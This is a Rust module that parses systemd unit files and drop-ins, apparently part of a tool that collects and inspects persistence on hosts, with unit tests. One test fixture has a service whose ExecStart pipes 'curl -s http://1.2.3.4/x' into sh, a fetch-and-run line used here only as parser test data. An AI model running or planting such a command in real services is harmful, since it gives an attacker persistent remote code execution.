//! systemd unit files and drop-ins (`.service`, `.timer`, `*.d/*.conf`) as systemd reads them:
//! `[Section]` headers, `Key=Value` lines, `#`/`;` comments, backslash continuations, later assignments
//! overriding earlier ones (an empty assignment resets list keys such as `ExecStart=`).

use super::numbered_lines;

/// One `Key=Value` assignment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnitEntry {
    /// 1-based line the assignment starts on.
    pub line: u32,
    pub section: String,
    pub key: String,
    /// The value with continuations joined by a space, surrounding whitespace trimmed.
    pub value: Vec<u8>,
}

/// A command line of an `Exec*=` key, split into systemd's prefixes and words.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecCommand {
    /// 1-based line of the key.
    pub line: u32,
    /// `ExecStart`, `ExecStartPre`, ...
    pub key: String,
    /// Special prefixes (`-`, `@`, `:`, `+`, `!`, `|`).
    pub prefixes: Vec<u8>,
    /// The program path (first word after the prefixes).
    pub program: Vec<u8>,
    /// Every word including the program, unquoted (single and double quotes, backslash escapes).
    pub argv: Vec<Vec<u8>>,
    /// The value as written, after the prefixes.
    pub raw: Vec<u8>,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Unit {
    pub entries: Vec<UnitEntry>,
}

impl Unit {
    pub fn parse(bytes: &[u8]) -> Unit {
        let mut entries = Vec::new();
        let mut section = String::new();
        let mut pending: Option<UnitEntry> = None;
        for (n, raw) in numbered_lines(bytes) {
            if let Some(mut e) = pending.take() {
                let text = raw.trim_ascii();
                if text.starts_with(b"#") || text.starts_with(b";") {
                    // Comment lines inside a continuation are skipped, the continuation goes on.
                    pending = Some(e);
                    continue;
                }
                let (piece, more) = continuation(text);
                e.value.push(b' ');
                e.value.extend_from_slice(piece.trim_ascii());
                if more {
                    pending = Some(e);
                } else {
                    entries.push(e);
                }
                continue;
            }
            let text = raw.trim_ascii();
            if text.is_empty() || text.starts_with(b"#") || text.starts_with(b";") {
                continue;
            }
            if text.starts_with(b"[") {
                if let Some(end) = text.iter().position(|b| *b == b']') {
                    section =
                        String::from_utf8_lossy(text.get(1..end).unwrap_or_default()).into_owned();
                }
                continue;
            }
            let Some(eq) = text.iter().position(|b| *b == b'=') else {
                continue;
            };
            let key = String::from_utf8_lossy(text.get(..eq).unwrap_or_default().trim_ascii())
                .into_owned();
            let (value, more) = continuation(text.get(eq + 1..).unwrap_or_default());
            let e = UnitEntry {
                line: n,
                section: section.clone(),
                key,
                value: value.trim_ascii().to_vec(),
            };
            if more {
                pending = Some(e);
            } else {
                entries.push(e);
            }
        }
        entries.extend(pending);
        Unit { entries }
    }

    /// Every assignment of `section.key`, in file order.
    pub fn all<'a>(&'a self, section: &str, key: &str) -> impl Iterator<Item = &'a UnitEntry> + 'a {
        let (section, key) = (section.to_owned(), key.to_owned());
        self.entries
            .iter()
            .filter(move |e| e.section.eq_ignore_ascii_case(&section) && e.key == key)
    }

    /// The value in force for a single-valued key: the last assignment.
    pub fn get(&self, section: &str, key: &str) -> Option<&UnitEntry> {
        self.all(section, key).last()
    }

    /// Commands of every `Exec*=` key in `[Service]` (`ExecStart`, `ExecStartPre`, `ExecStartPost`,
    /// `ExecReload`, `ExecStop`, `ExecStopPost`, `ExecCondition`), honouring empty resets.
    pub fn exec_commands(&self) -> Vec<ExecCommand> {
        let mut out: Vec<ExecCommand> = Vec::new();
        for e in self
            .entries
            .iter()
            .filter(|e| e.section.eq_ignore_ascii_case("Service") && e.key.starts_with("Exec"))
        {
            if e.value.is_empty() {
                out.retain(|c| c.key != e.key);
                continue;
            }
            out.push(exec_command(e.line, &e.key, &e.value));
        }
        out
    }

    /// `Restart=` in `[Service]`, lowercased (`always`, `on-failure`, ...).
    pub fn restart(&self) -> Option<String> {
        self.get("Service", "Restart")
            .map(|e| String::from_utf8_lossy(&e.value).to_ascii_lowercase())
    }

    /// `User=` in `[Service]`; `None` means root for system units.
    pub fn user(&self) -> Option<&[u8]> {
        self.get("Service", "User").map(|e| e.value.as_slice())
    }

    /// `Unit=` of a `.timer` (the service it starts), when set.
    pub fn timer_unit(&self) -> Option<&[u8]> {
        self.get("Timer", "Unit").map(|e| e.value.as_slice())
    }

    /// `WantedBy=` targets, space-separated values joined.
    pub fn wanted_by(&self) -> Vec<Vec<u8>> {
        self.all("Install", "WantedBy")
            .flat_map(|e| {
                super::words(&e.value)
                    .map(<[u8]>::to_vec)
                    .collect::<Vec<_>>()
            })
            .collect()
    }
}

/// Strips a trailing backslash; true when the line continues.
fn continuation(text: &[u8]) -> (&[u8], bool) {
    let t = text.trim_ascii_end();
    match t.strip_suffix(b"\\") {
        Some(rest) => (rest, true),
        None => (t, false),
    }
}

/// Splits an `Exec*=` value: prefixes, then words with systemd's quoting.
pub fn exec_command(line: u32, key: &str, value: &[u8]) -> ExecCommand {
    let start = value
        .iter()
        .position(|b| !b"-@:+!|".contains(b))
        .unwrap_or(value.len());
    let prefixes = value.get(..start).unwrap_or_default().to_vec();
    let raw = value.get(start..).unwrap_or_default().trim_ascii().to_vec();
    let argv = split_quoted(&raw);
    ExecCommand {
        line,
        key: key.to_owned(),
        prefixes,
        program: argv.first().cloned().unwrap_or_default(),
        argv,
        raw,
    }
}

/// Words with single/double quotes and backslash escapes removed, as systemd and POSIX shells split them
/// ([`super::quoting`], the one splitter).
pub fn split_quoted(text: &[u8]) -> Vec<Vec<u8>> {
    super::quoting::config_words(text)
}

/// True for paths where unit files and drop-ins live (system, vendor, runtime, generator, per-user).
pub fn is_unit_path(path: &[u8]) -> bool {
    let in_dir = UNIT_DIRS.iter().any(|d| path.starts_with(d))
        || HOME_UNIT_DIRS.iter().any(|d| super::contains(path, d));
    in_dir && is_unit_file_name(super::basename(path))
}

/// The directories systemd loads units from (the table the collector walks by).
pub use minetrace_schemas::locations::SYSTEMD_UNIT_DIRS as UNIT_DIRS;

/// Where a user's own units live, relative to any home.
pub use minetrace_schemas::locations::HOME_SYSTEMD_UNIT_DIRS as HOME_UNIT_DIRS;

/// A unit (`.service`, `.timer`, `.socket`, `.path`) or drop-in (`.conf`) file name.
pub fn is_unit_file_name(name: &[u8]) -> bool {
    [&b".service"[..], b".timer", b".socket", b".path", b".conf"]
        .iter()
        .any(|s| name.ends_with(s))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn service_with_prefixes_continuations_and_resets() {
        let text = b"[Unit]\nDescription=x\n\n[Service]\nType=simple\nExecStartPre=-/bin/mkdir -p \"/tmp/a b\"\nExecStart=/bin/sh -c \\\n  'curl -s http://1.2.3.4/x | sh'\nRestart=on-failure\nRestart=always\nUser=redis\n[Install]\nWantedBy=multi-user.target default.target\n";
        let u = Unit::parse(text);
        let cmds = u.exec_commands();
        assert_eq!(cmds.len(), 2);
        assert_eq!(cmds[0].prefixes, b"-");
        assert_eq!(
            cmds[0].argv,
            vec![b"/bin/mkdir".to_vec(), b"-p".to_vec(), b"/tmp/a b".to_vec()]
        );
        assert_eq!(cmds[1].line, 7);
        assert_eq!(cmds[1].program, b"/bin/sh");
        assert_eq!(cmds[1].argv[2], b"curl -s http://1.2.3.4/x | sh");
        assert_eq!(u.restart().as_deref(), Some("always"));
        assert_eq!(u.user(), Some(&b"redis"[..]));
        assert_eq!(u.wanted_by().len(), 2);
    }

    #[test]
    fn empty_exec_resets_and_crlf() {
        let u = Unit::parse(b"[Service]\r\nExecStart=/a\r\nExecStart=\r\nExecStart=/b\r\n");
        let cmds = u.exec_commands();
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0].program, b"/b");
        assert_eq!(cmds[0].line, 4);
    }

    #[test]
    fn unit_paths() {
        assert!(is_unit_path(b"/etc/systemd/system/bot.service"));
        assert!(is_unit_path(
            b"/etc/systemd/system/x.service.d/override.conf"
        ));
        assert!(is_unit_path(b"/home/u/.config/systemd/user/a.timer"));
        assert!(!is_unit_path(b"/etc/systemd/system.conf"));
        assert!(!is_unit_path(
            b"/etc/systemd/system/multi-user.target.wants"
        ));
    }
}
